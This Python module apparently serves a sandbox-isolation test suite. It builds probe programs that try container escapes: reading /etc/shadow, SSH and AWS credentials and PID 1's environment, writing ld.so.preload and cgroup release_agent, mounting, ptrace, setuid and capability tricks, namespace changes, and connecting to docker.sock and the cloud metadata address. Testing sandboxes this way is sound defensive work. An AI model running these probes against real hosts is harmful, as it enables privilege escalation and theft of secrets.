"""Programs that try to leave their sandbox. Run only inside a sandbox.

Each is the body of `attack()`, which tries every way that it knows and returns what it got: an
empty list if the walls held. `AIM` says what there is on the host to be got at.
"""

from __future__ import annotations

from dataclasses import asdict, dataclass


@dataclass(frozen=True)
class Aim:
    """Things of the host that no sandbox may reach."""

    file: str = "/etc/shadow"
    """A file that only the host has."""
    variable: str = "HOST_SECRET"
    """An environment variable of the host's process."""
    port: int = 22
    """A TCP and UDP port that the host listens on at its loopback interface."""
    abstract: str = "host"
    """An abstract Unix socket that the host listens on."""
    socket: str = "/var/run/docker.sock"
    """A Unix socket that the host listens on."""
    pid: int = 1
    """A process of the host."""


_BEGIN = """
import ctypes, fcntl, glob, os, platform, resource, signal, socket, stat, struct, subprocess, sys
got = []
libc = ctypes.CDLL(None, use_errno=True)
INTEL = platform.machine() == "x86_64"

def attempt(name, action, *arguments):
    '''No error and no -1 is a success; what it returned is the loot.'''
    try:
        result = action(*arguments)
    except OSError:
        return
    if result is not False and result not in (-1, b"", "", []):
        got.append(f"{name}: {result!r}"[:90])

def read(path):
    with open(path, "rb") as file:
        return file.read(64)

def write(path, text=b"x"):
    with open(path, "r+b", buffering=0) as file:
        return file.write(text)

def call(intel, arm, *arguments):
    return libc.syscall(intel if INTEL else arm, *arguments)
"""
INTRUSIONS: dict[str, str] = {
    "host_files": """
    home = ("/root", "/home", os.path.expanduser("~root"))
    secrets = (".ssh", ".aws", ".netrc", ".docker", ".bash_history", ".config", ".cache")
    places = [AIM["file"], "/etc/shadow", "/etc/sudoers", "/run/secrets", "/host", "/mnt/host"]
    places += [f"{folder}/{name}" for folder in home for name in secrets]
    for place in places:
        attempt(place, read, place)
        attempt(place, os.listdir, place)
    for process in glob.glob("/proc/[0-9]*"):
        for way in ("root", "cwd", "task/1/root"):
            attempt(f"{process}/{way}", read, f"{process}/{way}{AIM['file']}")
    name = os.path.basename(AIM["file"])
    for folder, _, files in os.walk("/"):
        if name in files and not folder.startswith("/proc"):
            got.append(f"{folder}/{name}")
""",
    "host_environment": """
    needle = AIM["variable"].encode() + b"="
    for path in glob.glob("/proc/[0-9]*/environ"):
        attempt(path, lambda: needle in open(path, "rb").read())
    attempt("own", lambda: AIM["variable"] in os.environ)
    attempt("pid 1", read, "/proc/1/environ")
""",
    "writing_outside": """
    places = ["/planted", "/etc/passwd", "/etc/ld.so.preload", "/usr/bin/python3", sys.executable,
              "/proc/self/exe", "/opt/toolkit/site-packages/pytest/__init__.py", os.__file__,
              AIM["file"],
              "/lib/x", "/dev/x", "/var/tmp/x", "/run/x", "/home/x", "/root/x", "/sys/x"]
    for place in places:
        attempt(place, write, place)
        attempt(place + " made", lambda: os.close(os.open(place, os.O_CREAT | os.O_WRONLY, 0o777)))
        attempt(place + " moved", os.rename, place, place + "2")
        attempt(place + " mode", os.chmod, place, 0o777)
""",
    "links": """
    for target in (AIM["file"], "/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/shadow"):
        link = f"/work/link{len(os.listdir('/work'))}"
        os.symlink(target, link)
        attempt(target, read, link)
        attempt(target + " written", write, link)
        attempt(target + " linked", os.link, target, link + "h")
        attempt(target + " far", read, "/work/" + "../" * 40 + target)
    attempt("interpreter linked", os.link, os.path.realpath(sys.executable), "/work/python")
    attempt("work replaced", os.rename, "/work", "/tmp/work")
""",
    "devices": """
    known = {"null", "zero", "full", "random", "urandom", "tty", "fd", "stdin", "stdout", "stderr",
             "ptmx", "pts", "shm", "mqueue", "core", "console"}
    got.extend(sorted(set(os.listdir("/dev")) - known))
    for name in ("mem", "kmem", "port", "kmsg", "sda", "vda", "fuse", "kvm", "net/tun", "loop0"):
        attempt(name, read, "/dev/" + name)
    for name, major, minor in (("mem", 1, 1), ("kmsg", 1, 11), ("sda", 8, 0), ("vda", 254, 0)):
        for folder in ("/work", "/tmp", "/dev/shm", "/dev"):
            for kind in (stat.S_IFCHR, stat.S_IFBLK):
                device = os.makedev(major, minor)
                attempt(name + " made", os.mknod, f"{folder}/{name}", kind | 0o666, device)
    if os.path.exists("/dev/console"):
        attempt("push input", fcntl.ioctl, 0, 0x5412, b"x")
""",
    "proc_tricks": """
    for name in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/modprobe",
                 "sys/kernel/hostname", "sys/vm/drop_caches", "sys/fs/binfmt_misc/register",
                 "sys/kernel/ns_last_pid", "1/oom_score_adj", "1/mem", "1/comm", "1/autogroup",
                 "1/clear_refs", "1/uid_map", "acpi/wakeup", "irq/default_smp_affinity"):
        attempt(name + " written", write, "/proc/" + name, b"1")
    for name in ("kcore", "kmsg", "1/mem", "1/environ", "1/maps", "1/stack", "1/auxv", "1/io",
                 "1/root/etc/passwd", "1/cwd/etc/passwd", "keys", "kpageflags"):
        attempt(name, read, "/proc/" + name)
    for way in ("fd", "map_files", "task/1/fd"):
        attempt(way, os.listdir, "/proc/1/" + way)
    attempt("kernel addresses", lambda: any(
        int(line.split()[0], 16) for line in open("/proc/kallsyms")))
    attempt("less likely to be killed", write, "/proc/self/oom_score_adj", b"-1000")
    attempt("own program", write, "/proc/self/exe")
""",
    "sys_tricks": """
    places = ["/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run",
              "/sys/fs/cgroup/release_agent", "/sys/kernel/debug", "/sys/firmware/efi/efivars"]
    places += glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
    places += glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)
    places += glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True)
    places += glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True)
    for place in places:
        attempt(place, write, place, b"0")
    attempt("own cgroup", os.mkdir, "/sys/fs/cgroup/memory/mine")
    attempt("own cgroup of version 2", os.mkdir, "/sys/fs/cgroup/mine")
""",
    "mounting": """
    os.makedirs("/work/new", exist_ok=True)
    for kind in (b"tmpfs", b"proc", b"sysfs", b"cgroup", b"overlay", b"devtmpfs"):
        attempt(f"mount {kind}", libc.mount, b"none", b"/work/new", kind, 0, None)
    for flags in (4096, 4096 | 16384, 32, 1 << 18):  # bind, recursively, remount, private
        attempt(f"mount {flags}", libc.mount, b"/", b"/work/new", None, flags, None)
    for place in (b"/proc", b"/proc/kcore", b"/work", b"/"):
        attempt(f"unmount {place}", libc.umount2, place, 2)
    attempt("chroot", os.chroot, "/work")
    attempt("pivot_root", call, 155, 41, b"/work", b"/work/new")
    attempt("fsopen", call, 430, 430, b"tmpfs", 0)
    attempt("open_tree", call, 428, 428, -100, b"/", 1)
    attempt("move_mount", call, 429, 429, -100, b"/", -100, b"/work/new", 0)
    attempt("mount_setattr", call, 442, 442, -100, b"/", 0, b"\\0" * 32, 32)
    attempt("fusermount", lambda: subprocess.run(["fusermount", "/work/new"]).returncode == 0)
""",
    "tracing": """
    buffer = ctypes.create_string_buffer(16)
    vector = struct.pack("QQ", ctypes.addressof(buffer), 16)
    for pid in (1, os.getppid(), AIM["pid"]):
        attempt(f"attach to {pid}", libc.ptrace, 16, pid, 0, 0)
        attempt(f"seize {pid}", libc.ptrace, 0x4206, pid, 0, 0)
        attempt(f"read {pid}", call, 310, 270, pid, vector, 1, vector, 1, 0)
        attempt(f"write {pid}", call, 311, 271, pid, vector, 1, vector, 1, 0)
        attempt(f"compare {pid}", call, 312, 272, pid, os.getpid(), 0, 0, 1)
        attempt(f"memory of {pid}", read, f"/proc/{pid}/mem")
    attempt("being traced", libc.ptrace, 0, 0, 0, 0)
    attempt("descriptor of 1", lambda: call(438, 438, os.pidfd_open(1), 0, 0))
""",
    "other_processes": """
    mine = {entry for entry in os.listdir("/proc") if entry.isdigit()}
    got.extend(sorted(pid for pid in mine if int(pid) > 100))  # a namespace of our own
    for pid in (1, AIM["pid"]) if AIM["pid"] > 1000 else (1,):
        for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
            attempt(f"limit {pid}", resource.prlimit, pid, kind, (1, 1))
        attempt(f"pin {pid}", os.sched_setaffinity, pid, {0})
        attempt(f"starve {pid}", os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
        attempt(f"nice {pid}", os.setpriority, os.PRIO_PROCESS, pid, 19)
        attempt(f"group {pid}", os.setpgid, pid, 0)
    attempt("nice all", os.setpriority, os.PRIO_USER, 0, 19)
    attempt("rush", os.setpriority, os.PRIO_PROCESS, 0, -5)
    attempt("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
    if AIM["pid"] > 1000:
        attempt("signal", os.kill, AIM["pid"], signal.SIGTERM)
""",
    "privileges": """
    for name, change in (("uid", os.setuid), ("gid", os.setgid), ("euid", os.seteuid)):
        attempt(name, change, 0)
    attempt("groups", os.setgroups, [0])
    attempt("both", os.setresuid, 0, 0, 0)
    header, all_of_them = struct.pack("Ii", 0x20080522, 0), b"\\xff" * 24
    attempt("capabilities", libc.capset, header, all_of_them)
    attempt("ambient", libc.prctl, 47, 2, 21, 0, 0)
    attempt("no_new_privs off", libc.prctl, 38, 0, 0, 0, 0)
    with open("/work/own", "wb") as file:
        file.write(b"#!/bin/sh\\nid -u\\n")
    os.chmod("/work/own", 0o6755)
    attempt("owner", os.chown, "/work/own", 0, 0)
    attempt("file capability", os.setxattr, "/work/own", "security.capability", b"\\1" * 20)
    for path in glob.glob("/usr/bin/*") + glob.glob("/bin/*"):
        if os.path.isfile(path) and os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
            status = subprocess.Popen([path], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                      stdout=subprocess.DEVNULL)
            attempt(path, lambda: "Uid:\\t0" in open(f"/proc/{status.pid}/status").read())
            status.kill(); status.wait()
""",
    "namespaces": """
    kinds = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000,
             "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80}
    for name, flag in kinds.items():
        attempt(f"unshare {name}", libc.unshare, flag)
        attempt(f"unshare user and {name}", libc.unshare, flag | 0x10000000)
        for flags in (flag, flag | 0x10000000):
            if name != "time":  # which clone would take for a signal
                made = call(56, 220, flags | signal.SIGCHLD, 0, 0, 0, 0)
                if made == 0:
                    os._exit(0)
                attempt(f"clone {name}", lambda: made)
            request = struct.pack("11Q", flags, 0, 0, 0, signal.SIGCHLD, *[0] * 6)
            made = call(435, 435, request, len(request))
            if made == 0:
                os._exit(0)
            attempt(f"clone3 {name}", lambda: made)
    for name in ("user", "mnt", "net", "pid"):
        for pid in (1, os.getpid()):
            attempt(f"join {name}", lambda: libc.setns(os.open(f"/proc/{pid}/ns/{name}", 0), 0))
""",
    "kernel_doors": """
    buffer = ctypes.create_string_buffer(4096)
    attempt("add_key", call, 248, 217, b"user", b"mine", b"x", 1, -3)
    attempt("io_uring_setup", call, 425, 425, 1, bytes(120))
    attempt("userfaultfd", call, 323, 282, 1)
    numbers = {"bpf": (321, 280), "perf_event_open": (298, 241), "acct": (163, 89),
               "init_module": (175, 105), "swapon": (167, 224),
               "finit_module": (313, 273), "kexec_load": (246, 104), "quotactl": (179, 60),
               "open_by_handle_at": (304, 265), "name_to_handle_at": (303, 264),
               "fanotify_init": (300, 262), "clock_settime": (227, 112),
               "sethostname": (170, 161), "vhangup": (153, 58), "reboot": (169, 142)}
    for name, (intel, arm) in numbers.items():
        attempt(name, call, intel, arm, buffer, 64, buffer, 1, 0)
    attempt("kernel log", libc.klogctl, 3, buffer, 4096)
    attempt("kernel log size", libc.klogctl, 10, None, 0)
    if INTEL:
        attempt("ports", libc.ioperm, 0x80, 1, 1)
        attempt("all ports", libc.iopl, 3)
        attempt("another table of calls", libc.syscall, 0x40000000 + 39)
""",
    "loopback_of_the_host": """
    for host in ("127.0.0.1", "::1", "localhost", "172.17.0.1", "10.0.2.2", "169.254.169.254"):
        attempt(host, lambda: socket.create_connection((host, AIM["port"]), 0.2))
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as datagram:
            if host not in ("127.0.0.1", "::1", "localhost"):
                attempt(host + " UDP", datagram.sendto, b"x", (host, AIM["port"]))
    for family in (40, 30, 38, 9, 29, 44):  # virtual machine, TIPC, crypto, X.25, CAN, XDP
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            attempt(f"family {family}", lambda: socket.socket(family, kind).fileno())
""",
    "dns": """
    for name in ("example.com", "localhost.localdomain", "host.docker.internal", "gateway"):
        attempt(name, lambda: [a for a in socket.getaddrinfo(name, 80) if a[4][0][:4] != "127."])
    servers = ["8.8.8.8", "127.0.0.11"]
    if os.path.exists("/etc/resolv.conf"):
        lines = open("/etc/resolv.conf").read().split()
        servers += [word for word in lines if word[0].isdigit()]
    question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\\7example\\3com\\0\\0\\1\\0\\1"
    for server in servers:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
            datagram.settimeout(0.2)
            attempt(server, datagram.connect, (server, 53)) if server[:4] != "127." else None
            def ask():
                datagram.sendto(question, (server, 53))
                return datagram.recv(512)
            attempt(server + " answer", ask)
""",
    "raw_sockets": """
    packet, raw, net = socket.AF_PACKET, socket.SOCK_RAW, socket.AF_NETLINK
    attempt("packets", lambda: socket.socket(packet, raw, 0x300).fileno())
    for protocol in (1, 6, 17, 255):
        attempt(f"raw {protocol}", lambda: socket.socket(socket.AF_INET, raw, protocol).fileno())
    def interface():
        with socket.socket(net, raw, 0) as route:  # set the loopback interface up, or down
            route.settimeout(0.5)
            body = struct.pack("BxHiII", 0, 0, 1, 0, 1)
            route.send(struct.pack("IHHII", 32, 16, 5, 1, 0) + body)
            return struct.unpack_from("i", route.recv(256), 16)[0] == 0
    attempt("interface", interface)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        attempt("address", fcntl.ioctl, any_socket, 0x8916, b"eth0" + b"\\0" * 36)
        attempt("audit", lambda: socket.socket(net, raw, 9).send(b"\\0" * 16) < 0)
""",
    "unix_sockets": """
    names = [AIM["socket"], "\\0" + AIM["abstract"], "/var/run/docker.sock", "/run/docker.sock",
             "/run/containerd/containerd.sock", "/var/run/docker/containerd/containerd.sock",
             "/run/podman/podman.sock", "/run/dbus/system_bus_socket", "/run/systemd/notify",
             "/run/systemd/private", "/dev/log", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0",
             "/proc/1/root" + AIM["socket"]]
    for name in names:
        with socket.socket(socket.AF_UNIX) as knock:
            attempt(repr(name), knock.connect, name)
    listening = [line.split()[-1] for line in open("/proc/net/unix")][1:]
    got.extend(name for name in listening if AIM["abstract"] in name or "docker" in name)
""",
}
"""Name -> body of `attack()`."""


def module(name: str, aim: Aim) -> str:
    """The module whose `attack()` returns what it got."""
    return f"AIM = {asdict(aim)!r}\n{_BEGIN}\ndef attack():{INTRUSIONS[name]}    return got\n"
